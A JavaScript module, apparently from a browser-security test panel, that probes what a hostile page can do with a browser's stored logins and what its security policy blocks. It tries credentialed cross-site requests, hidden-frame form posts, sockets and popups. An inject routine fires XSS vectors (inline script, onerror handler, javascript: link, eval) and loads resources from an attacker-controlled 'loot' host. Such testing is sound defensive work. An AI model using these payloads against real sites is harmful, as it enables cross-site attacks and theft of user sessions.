// What a page can try with the logins that a browser holds. Hostile pages load it as their script; on
// the panel's own pages the same acts show what they do where they are allowed. Each says what the page saw.
globalThis.acts = {
  async send(url, options = {}) {
    try {
      const answer = await fetch(url, { credentials: 'include', ...options })
      return { type: answer.type, status: answer.status, text: await answer.text() }
    } catch (error) {
      return { error: error.name }
    }
  },

  /** Into a frame of this page, so that the page goes on. */
  async form(url, { method = 'post', enctype = '', fields = {} } = {}) {
    const frame = document.createElement('iframe')
    frame.name = crypto.getRandomValues(new Uint32Array(2)).join('-')
    await loaded(frame)
    const form = document.createElement('form')
    Object.assign(form, { action: url, method, enctype, target: frame.name })
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement('input'), { name, value }))
    }
    document.body.append(form)
    const answered = settled(frame)
    form.submit()
    return answered
  },

  beacon: (url, body, type) => navigator.sendBeacon(url, new Blob([body], { type })),

  image: url => loaded(Object.assign(new Image(), { src: url })),

  script: url => loaded(Object.assign(document.createElement('script'), { src: url })),

  async style(url) {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })
    return { event: await loaded(link), hasRules: link.sheet !== null }
  },

  /** Which of its frames hold something is seen from outside. */
  embed(tag, url) {
    const element = document.createElement(tag)
    element[tag === 'object' ? 'data' : 'src'] = url
    document.body.append(element)
  },

  /** Ends when it is closed, or when it has heard enough. */
  socket: (url, { say = [], enough = 0 } = {}) =>
    new Promise(resolve => {
      const seen = { opened: false, heard: [] }
      const socket = new WebSocket(url)
      const finish = () => {
        if (seen.opened && seen.heard.length >= enough) resolve(seen)
      }
      socket.onopen = () => {
        seen.opened = true
        for (const message of say) socket.send(JSON.stringify(message))
        finish()
      }
      socket.onmessage = ({ data }) => {
        seen.heard.push(JSON.parse(data))
        finish()
      }
      socket.onclose = ({ code }) => resolve({ ...seen, code })
      // Where the page's own policy forbids it, no close follows.
      socket.onerror = () => setTimeout(() => resolve(seen))
    }),

  popup(url) {
    globalThis.opened = window.open(url)
  },

  peek() {
    const { opened } = globalThis
    try {
      return { isGone: opened.closed, title: opened.document.title }
    } catch (error) {
      return { isGone: opened.closed, error: error.name }
    }
  },

  /** What somebody could try who got some HTML into the page; `loot` is a place of theirs. */
  async inject(loot) {
    globalThis.injected = { ran: [], refused: [], isBase: false }
    globalThis.ran = way => injected.ran.push(way)
    document.addEventListener('securitypolicyviolation', event =>
      injected.refused.push(event.effectiveDirective)
    )
    const script = document.createElement('script')
    script.textContent = "ran('script')"
    document.body.append(script)
    const markup = document.createElement('div')
    markup.innerHTML = `<img src="/nothing" onerror="ran('handler')"><a href="javascript:ran('link')">a</a>`
    document.body.append(markup)
    markup.querySelector('a').click()
    try {
      // biome-ignore lint/security/noGlobalEval: this is what is tried
      globalThis.eval("ran('eval')")
    } catch {
      injected.refused.push('eval')
    }
    const base = Object.assign(document.createElement('base'), { href: `${loot}/` })
    document.head.append(base)
    injected.isBase = document.baseURI === base.href
    base.remove()
    await acts.script(`${loot}/script.js`)
    await acts.style(`${loot}/style.css`)
    await acts.image(`${loot}/image.png`)
    await acts.send(`${loot}/fetch`, { mode: 'no-cors' })
    await acts.socket(`${loot.replace('http', 'ws')}/socket`)
    acts.embed('iframe', `${loot}/iframe`)
    acts.embed('object', `${loot}/object`)
  },

  /** The last of it, for the page may go with it. */
  leave(loot) {
    const form = Object.assign(document.createElement('form'), { action: `${loot}/form` })
    document.body.append(form)
    form.submit()
  }
}

/** Puts it into the page and waits for its end. */
function loaded(element) {
  const answered = settled(element)
  document.body.append(element)
  return answered
}

function settled(element) {
  return new Promise(resolve => {
    for (const event of ['load', 'error']) {
      element.addEventListener(event, () => resolve(event), { once: true })
    }
  })
}
